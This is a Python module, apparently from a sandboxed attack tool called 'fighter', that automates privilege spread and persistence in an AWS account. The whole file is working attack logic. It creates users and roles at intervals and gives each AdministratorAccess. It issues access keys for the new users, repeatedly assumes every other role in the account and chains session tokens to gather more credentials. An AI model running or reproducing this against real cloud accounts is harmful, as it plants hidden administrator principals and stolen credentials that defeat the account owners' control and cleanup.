"""How the fighter becomes more: keys, users, roles, and roles of others that let it in."""

from __future__ import annotations

import itertools
import json
import secrets
import threading
import time
from typing import Any

from sandbox.fighter.api import KEY, ROLE, SESSION_TOKEN, Api, Credential
from sandbox.fighter.band import Band, Member
from sandbox.fighter.holdings import Holdings

_ADMINISTRATOR = "arn:aws:iam::aws:policy/AdministratorAccess"
_TRY_AGAIN_S = 8.0
# Roles that nobody in the account may assume or change.
_NOT_TO_BE_HAD = (":role/aws-service-role/", ":role/aws-reserved/")
_SESSIONS = 2


class Growth:
    """Makes new principals, one every `interval` seconds, users and roles by turns."""

    def __init__(self, api: Api, band: Band, account: str, interval: float) -> None:
        self._api, self._band, self._account, self._interval = api, band, account, interval
        self._lock, self._made, self._tried = threading.Lock(), -1e9, dict[str, float]()
        self._kinds = itertools.cycle(("User", "Role"))

    def more(self, member: Member) -> None:
        """A new principal, if it is time and there is room."""
        with self._lock:
            now = time.monotonic()
            if now - self._made < self._interval or not self._band.room():
                return
            self._made, kind = now, next(self._kinds)
        try:
            self._make(kind, self._band.agents(member))
        finally:
            self._band.settle()

    def _make(self, kind: str, agents: list[Credential]) -> None:
        who = {f"{kind}Name": f"svc-{secrets.token_hex(5)}"}
        trust = _trust(self._account) if kind == "Role" else None
        more = {"AssumeRolePolicyDocument": json.dumps(trust)} if trust else {}
        answer, _by = self._api.by_any(agents, "iam", f"Create{kind}", **who, **more)
        if answer is None:
            return
        made = answer[kind]
        wanted = Holdings(
            kind=kind,
            id=made[f"{kind}Id"],
            name=made[f"{kind}Name"],
            arn=made["Arn"],
            inline={},
            attached=frozenset({_ADMINISTRATOR}),
            trust=trust,
        )
        member = Member(kind=kind, id=wanted.id, name=wanted.name, arn=wanted.arn, origin="made", wanted=wanted)
        self._band.join(member)
        self._api.by_any(agents, "iam", f"Attach{kind}Policy", **who, PolicyArn=_ADMINISTRATOR)
        if kind == "User":
            self.key(member, agents)

    def key(self, member: Member, agents: list[Credential]) -> None:
        """A new access key of a user."""
        answer, _by = self._api.by_any(agents, "iam", "CreateAccessKey", UserName=member.name)
        if answer is None:
            return
        made = answer["AccessKey"]
        member.done["key"] = time.monotonic()
        credential = Credential(
            kind=KEY,
            principal=member.arn,
            access_key_id=made["AccessKeyId"],
            secret_access_key=made["SecretAccessKey"],
        )
        self._band.give(member, credential, most=2)

    def assume(self, member: Member, agents: list[Credential]) -> None:
        """A session of a role that it has: again and again, from whatever works, the role's own sessions included."""
        works = any(map(self._api.works, member.credentials))
        if self._band.first(member, "assume", (4 if works else 1) * self._interval):
            session = self._session(member.arn, agents)
            if session is not None:
                self._band.give(member, session, _SESSIONS)

    def juggle(self, member: Member) -> None:
        """Every other role in the account is tried, and tried again."""
        for role in list(self._band.seen.values()):
            if role.kind != "Role" or self._band.has(role.id) or any(part in role.arn for part in _NOT_TO_BE_HAD):
                continue
            with self._lock:
                if time.monotonic() - self._tried.get(role.id, -1e9) < _TRY_AGAIN_S:
                    continue
                self._tried[role.id] = time.monotonic()
            session = self._session(role.arn, self._band.agents(member))
            if session is not None:
                got = Member(
                    kind="Role", id=role.id, name=role.name, arn=role.arn, origin="shared", credentials=(session,)
                )
                self._band.join(got)

    def _session(self, role_arn: str, agents: list[Credential]) -> Credential | None:
        """With long-term keys, with their sessions, with roles' sessions."""
        chosen = [*agents[:3], *self._session_tokens()]
        answer, _by = self._api.by_any(chosen, "sts", "AssumeRole", RoleArn=role_arn, RoleSessionName="support")
        return _assumed(answer) if answer is not None else None

    def _session_tokens(self) -> list[Credential]:
        """One that works, if there is any."""
        there = (one for member in self._band.members() for one in member.credentials if one.kind == SESSION_TOKEN)
        return list(itertools.islice((one for one in there if self._api.works(one)), 1))


def _assumed(answer: dict[str, Any]) -> Credential:
    given = answer["Credentials"]
    return Credential(
        kind=ROLE,
        principal=answer["AssumedRoleUser"]["Arn"],
        access_key_id=given["AccessKeyId"],
        secret_access_key=given["SecretAccessKey"],
        session_token=given["SessionToken"],
    )


def _trust(account: str) -> dict[str, Any]:
    trusted = {"Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{account}:root"}, "Action": "sts:AssumeRole"}
    return {"Version": "2012-10-17", "Statement": [trusted]}
